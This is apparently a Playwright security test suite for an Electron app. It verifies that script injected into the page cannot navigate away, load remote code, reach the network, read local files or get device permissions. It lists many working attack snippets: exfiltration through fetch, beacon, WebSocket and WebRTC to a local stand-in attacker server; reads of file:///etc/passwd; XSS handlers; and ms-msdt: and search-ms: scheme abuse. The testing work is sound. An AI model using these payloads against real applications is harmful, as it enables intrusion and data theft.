import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { callNames, commandNames, eventNames } from '#shared/channels.ts';
import { expect, test as base } from './steps.ts';

/** What a script could try that had got into the page all the same. The driver's own calls count as a person's gesture. */

interface Attacker {
  /** With a slash at its end. */
  readonly url: string;
  readonly port: number;
  /** What reached it, over HTTP and UDP. */
  readonly heard: readonly string[];
}

const test = base.extend<{ readonly attacker: Attacker }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads from the pattern what a fixture needs
  attacker: async ({}, use) => {
    const heard: string[] = [];
    const server = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      response.end('globalThis.pwned = "loaded"');
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    const stun = createSocket('udp4').on('message', () => heard.push('STUN'));
    stun.bind(port, '127.0.0.1');
    await once(stun, 'listening');
    await use({ url: `http://127.0.0.1:${port}/`, port, heard });
    stun.close();
    server.closeAllConnections();
    server.close();
  },
});

/** `URL` stands for the attacker's address, `PORT` for its port. */
const ways: readonly (readonly [what: string, code: string])[] = [
  // To another page
  ['location.href', `location.href = 'URL'`],
  ['location.assign', `location.assign('URL')`],
  ['location.replace', `location.replace('URL')`],
  ['a page from files', `location.href = 'file:///etc/passwd'`],
  ['a page of text', `location.href = 'data:text/html,<script>pwned=1</script>'`],
  ['javascript:', `location.href = 'javascript:void(globalThis.pwned = 1)'`],
  ['javascript: in a link', `click({ href: 'javascript:void(globalThis.pwned = 1)' })`],
  ['a program’s scheme', `location.href = 'ms-msdt:/id PCWDiagnostic'`],
  ['a mail', `location.href = 'mailto:somebody@evil.example'`],
  ['a search', `location.href = 'search-ms:query=x&crumb=location:\\\\\\\\evil'`],
  ['Chromium’s own pages', `location.href = 'chrome://gpu'`],
  ['another host of app:', `location.href = 'app://evil/index.html'`],
  ['the guests’ page', `location.href = '/display.html'`],
  ['an address elsewhere in the bar', `history.pushState(null, '', 'URL')`],
  ['a refresh', `add('meta', { httpEquiv: 'refresh', content: '0;url=URL' })`],
  ['another base', `add('base', { href: 'URL' })`],
  ['a form', `add('form', { action: 'URL', method: 'post' }).submit()`],
  ['a form in a new window', `add('form', { action: 'URL', target: '_blank' }).submit()`],
  ['a form of javascript:', `add('form', { action: 'javascript:pwned=1' }).submit()`],
  // Another window
  ['window.open', `window.open('URL')`],
  ['window.open with features', `window.open('URL', 'x', 'popup,nodeIntegration=yes,contextIsolation=no,sandbox=no')`],
  ['window.open of our page', `window.open('/index.html', '_blank', 'noopener=no')`],
  ['window.open of nothing', `window.open('about:blank')?.document.write('<script>pwned=1</script>')`],
  ['window.open of javascript:', `window.open('javascript:pwned=1')`],
  ['window.open onto this one', `window.open('URL', '_self')`],
  ['a link to a new window', `click({ href: 'URL', target: '_blank', rel: 'opener' })`],
  ['a link that tells', `click({ href: 'URL', ping: 'URL' })`],
  // Something inside the page
  ...[
    'URL',
    'file:///etc/passwd',
    'data:text/html,<script>parent.postMessage(1, "*")</script>',
    '/index.html',
    'javascript:top.pwned=1',
  ].map((src) => [`a frame of ${src}`, `add('iframe', { src: ${JSON.stringify(src)} })`] as const),
  ['a frame with its text', `add('iframe', { srcdoc: '<script>top.pwned=1</script>' })`],
  ['an object', `add('object', { data: 'URL' })`],
  ['an embedded page', `add('embed', { src: 'URL' })`],
  ['a web view', `add('webview', { src: 'URL' }).setAttribute('src', 'URL')`],
  // A script
  ['a script of the network', `add('script', { src: 'URL' })`],
  ['a module of the network', `add('script', { src: 'URL', type: 'module' })`],
  ['a script in the page', `add('script', { textContent: 'globalThis.pwned = 1' })`],
  ['a script of text', `add('script', { src: 'data:text/javascript,globalThis.pwned=1' })`],
  ['a script of a blob', `add('script', { src: globalThis.URL.createObjectURL(new Blob(['globalThis.pwned=1'])) })`],
  [
    'a handler in a tag',
    `add('div', {}).innerHTML = '<img src=x onerror="globalThis.pwned=1"><svg onload="globalThis.pwned=1">'`,
  ],
  [
    'an attribute that is code',
    `add('button', {}).setAttribute('onclick', 'globalThis.pwned=1'); document.querySelector('body > button').click()`,
  ],
  ['import()', `await import('URL')`],
  ['import() of text', `await import('data:text/javascript,globalThis.pwned=1')`],
  ['eval', `(0, eval)('globalThis.pwned = 1')`],
  ['a function from text', `new Function('globalThis.pwned = 1')()`],
  ['a timer from text', `setTimeout('globalThis.pwned = 1')`],
  ['a worker of the network', `new Worker('URL')`],
  ['a worker of a blob', `new Worker(globalThis.URL.createObjectURL(new Blob(["importScripts('URL')"])))`],
  ['a shared worker', `new SharedWorker('URL')`],
  ['a service worker', `globalThis.worker = await navigator.serviceWorker.register('/assets/x.js')`],
  ['a worklet', `await CSS.paintWorklet?.addModule('URL')`],
  // The network
  ['fetch', `await fetch('URL', { mode: 'no-cors' })`],
  ['a request', `const r = new XMLHttpRequest(); r.open('POST', 'URL'); r.send('x')`],
  [
    'a request for a file',
    `const r = new XMLHttpRequest(); r.open('GET', 'file:///etc/passwd', false); r.send(); globalThis.pwned = r.responseText`,
  ],
  ['fetch of a file', `globalThis.pwned = await (await fetch('file:///etc/passwd')).text()`],
  ['fetch of our own files', `globalThis.pwned = await (await fetch('/index.html')).text()`],
  ['a beacon', `navigator.sendBeacon('URL', 'x')`],
  ['a web socket', `new WebSocket('ws://127.0.0.1:PORT/')`],
  ['events of a server', `new EventSource('URL')`],
  ['WebTransport', `new WebTransport('https://127.0.0.1:PORT/')`],
  [
    'WebRTC over UDP',
    `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
     p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
     await Promise.race([new Promise((done) => { p.onicecandidate = ({ candidate }) => candidate ?? done(); }), wait(1500)])`,
  ],
  ...['prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'].map(
    (rel) => [`a link of the kind ${rel}`, `add('link', { rel: '${rel}', href: 'URL', as: 'script' })`] as const,
  ),
  [
    'speculation rules',
    `add('script', { type: 'speculationrules', textContent: '{"prefetch":[{"source":"list","urls":["URL"]}]}' })`,
  ],
  ['an image', `new Image().src = 'URL'`],
  ['a video', `add('video', { src: 'URL' })`],
  ['a sound', `new Audio('URL').play().catch(() => {})`],
  ['a font', `new FontFace('x', 'url(URL)').load().catch(() => {})`],
  ['a style in the page', `add('style', { textContent: 'body { background: url(URL); display: none }' })`],
  ['a style in a tag', `add('div', {}).innerHTML = '<p style="background: url(URL)">x</p>'`],
  ['a reporting endpoint', `new ReportingObserver(() => {}).observe()`],
];

/** Helpers of the attacks above. */
const helpers = `
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
  const click = (fields) => add('a', fields).click();`;

/** All in one page, after a turn of the loop: what the driver calls directly is let through by Chromium. */
async function attack(page: Page, code: string, { url, port }: Attacker): Promise<void> {
  const body = code.replaceAll('URL.createObjectURL', '@').replaceAll('URL', url).replaceAll('PORT', String(port));
  await page
    .evaluate(`(async () => { ${helpers} await wait(0); ${body.replaceAll('@', 'URL.createObjectURL')} })()`)
    // Most are refused with an error.
    .catch(() => {});
}

test('whatever a script in the page tries, it stays there, runs nothing else and reaches nobody', async ({
  page,
  electronApp,
  attacker,
}) => {
  const home = page.url();
  const connect = page.getByRole('button', { name: 'Connect' });
  await expect(connect).toBeVisible();
  await page.evaluate(
    `globalThis.same = 'page'; addEventListener('message', ({ data }) => { if (data === 1) globalThis.pwned = 1; })`,
  );
  const state = () =>
    page.evaluate(async () => ({
      url: location.href,
      same: Reflect.get(globalThis, 'same') as unknown,
      pwned: (Reflect.get(globalThis, 'pwned') as unknown) ?? null,
      opener: window.opener as unknown,
      workers: (await navigator.serviceWorker?.getRegistrations())?.length ?? 0,
      background: getComputedStyle(document.body).backgroundImage + getComputedStyle(document.body).display,
    }));
  const before = await state();
  expect(before).toMatchObject({ url: home, pwned: null, opener: null, workers: 0 });
  for (const [what, code] of ways) {
    await attack(page, code, attacker);
    expect([what, await state(), attacker.heard]).toEqual([what, before, []]);
  }
  await expect.poll(() => electronApp.windows().length).toBe(1);
  expect([await state(), attacker.heard]).toEqual([before, []]);
  await expect(connect).toBeVisible();
  // The attacker was there all the time.
  await fetch(attacker.url);
  expect(attacker.heard).toEqual(['GET /']);
});

test('a page that got to another address all the same is brought back, and can do nothing there', async ({ page }) => {
  const home = page.url();
  const connect = page.getByRole('button', { name: 'Connect' });
  for (const code of [
    // Chromium lets the preview host say nothing about this one.
    `location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' }))`,
    `history.pushState(null, '', '/display.html')`,
    `location.hash = 'x'`,
    `history.go(-1)`,
  ]) {
    await expect(connect).toBeVisible();
    await page.evaluate(`globalThis.same = 'page'; ${code}`).catch(() => {});
    await expect.poll(() => page.url()).toBe(home);
    await expect(connect).toBeVisible();
    await expect
      .poll(() => page.evaluate(() => window.station.call.view().then(({ ok }) => ok)).catch(() => null))
      .toBe(true);
  }
});

test('what the page may call is fixed, and a file dropped onto it is refused', async ({ page }) => {
  await expect(page.getByRole('button', { name: 'Connect' })).toBeVisible();
  const seen = await page.evaluate(() => {
    const { station } = window;
    const tried = (act: () => void): boolean => {
      try {
        act();
        return true;
      } catch {
        return false;
      }
    };
    const was = station.call.view;
    tried(() => Object.defineProperty(window, 'station', { value: null }));
    tried(() => Object.assign(window, { station: null }));
    tried(() => Object.assign(station, { call: null }));
    tried(() => Object.assign(station.call, { view: null, extra: 1 }));
    tried(() => Reflect.deleteProperty(station.call, 'view'));
    return {
      same: window.station === station && station.call.view === was,
      frozen: [station, station.call, station.command, station.on].map((each) => Object.isFrozen(each)),
      calls: Object.keys(station.call),
      commands: Object.keys(station.command),
      events: Object.keys(station.on),
    };
  });
  expect(seen).toEqual({
    same: true,
    frozen: [true, true, true, true],
    calls: [...callNames],
    commands: [...commandNames],
    events: [...eventNames],
  });

  const dropped = await page.evaluate(() => {
    const drop = (type: string, fill: (data: DataTransfer) => void): boolean => {
      const dataTransfer = new DataTransfer();
      fill(dataTransfer);
      const event = new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true });
      document.body.dispatchEvent(event);
      return event.defaultPrevented;
    };
    const file = (data: DataTransfer): void =>
      void data.items.add(new File(['<h1>'], 'evil.html', { type: 'text/html' }));
    const address = (data: DataTransfer): void => data.setData('text/uri-list', 'https://evil.example/');
    return [drop('dragover', file), drop('drop', file), drop('drop', address)];
  });
  expect(dropped).toEqual([true, true, true]);
});

test('the page gets nothing of the computer', async ({ page }) => {
  await expect(page.getByRole('button', { name: 'Connect' })).toBeVisible();
  for (const code of [
    `navigator.clipboard.readText()`,
    `navigator.clipboard.read()`,
    `navigator.usb.requestDevice({ filters: [] })`,
    `navigator.hid.requestDevice({ filters: [] }).then((found) => { if (found.length === 0) throw new Error('none') })`,
    `navigator.serial.requestPort()`,
    `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
    `navigator.requestMIDIAccess({ sysex: true })`,
    `navigator.mediaDevices.getDisplayMedia()`,
    `navigator.mediaDevices.getUserMedia({ audio: true })`,
    `new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))`,
    `Notification.requestPermission().then((said) => { if (said !== 'granted') throw new Error(said) })`,
    `IdleDetector.requestPermission().then((said) => { if (said !== 'granted') throw new Error(said) })`,
    `getScreenDetails()`,
    `queryLocalFonts().then((found) => { if (found.length === 0) throw new Error('none') })`,
    `navigator.credentials.get({ password: true, mediation: 'silent' }).then((found) => { if (found === null) throw new Error('none') })`,
    `navigator.storage.persist().then((granted) => { if (!granted) throw new Error('no') })`,
    `navigator.keyboard.lock().then(() => navigator.permissions.query({ name: 'keyboard-lock' }))
       .then(({ state }) => { if (state !== 'granted') throw new Error(state) })`,
  ]) {
    // A chooser that nobody answers is a refusal, too.
    const got: unknown = await page.evaluate(`Promise.race([
      (async () => ${code})().then(() => 'granted', () => 'refused'),
      new Promise((done) => setTimeout(() => done('refused'), 1_000)),
    ])`);
    expect([code, got]).toEqual([code, 'refused']);
  }
  const granted = await page.evaluate(async () => {
    const names = [
      'accelerometer',
      'background-fetch',
      'background-sync',
      'clipboard-read',
      'display-capture',
      'geolocation',
      'idle-detection',
      'local-fonts',
      'microphone',
      'midi',
      'nfc',
      'notifications',
      'periodic-background-sync',
      'persistent-storage',
      'screen-wake-lock',
      'speaker-selection',
      'storage-access',
      'window-management',
    ];
    const found = await Promise.all(
      names.map(async (name) => {
        const status = await navigator.permissions.query({ name: name as PermissionName }).catch(() => null);
        return status?.state === 'granted' ? [name] : [];
      }),
    );
    return found.flat();
  });
  expect(granted).toEqual([]);
});

test('a window that nobody thought of, with a page without a policy, has the same walls', async ({
  page,
  electronApp,
  attacker,
}) => {
  await expect(page.getByRole('button', { name: 'Connect' })).toBeVisible();
  const said = await electronApp.evaluate(async ({ BrowserWindow }, url) => {
    const other = new BrowserWindow({ show: false });
    await other.loadURL('data:text/html,<h1>here</h1>');
    const run = (code: string): Promise<unknown> => other.webContents.executeJavaScript(code).catch(String);
    const fetched = await run(`fetch('${url}', { mode: 'no-cors' }).then(() => 'reached', () => 'refused')`);
    await run(`new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = '${url}'; })`);
    await run(`void window.open('${url}')`);
    await run(`void (location.href = '${url}')`);
    await run(`new Promise((done) => setTimeout(done, 300))`);
    const isThere = other.webContents.getURL().startsWith(url);
    const count = BrowserWindow.getAllWindows().length;
    other.destroy();
    return { fetched, isThere, count };
  }, attacker.url);
  expect(said).toEqual({ fetched: 'refused', isThere: false, count: 2 });
  expect(attacker.heard).toEqual([]);
});
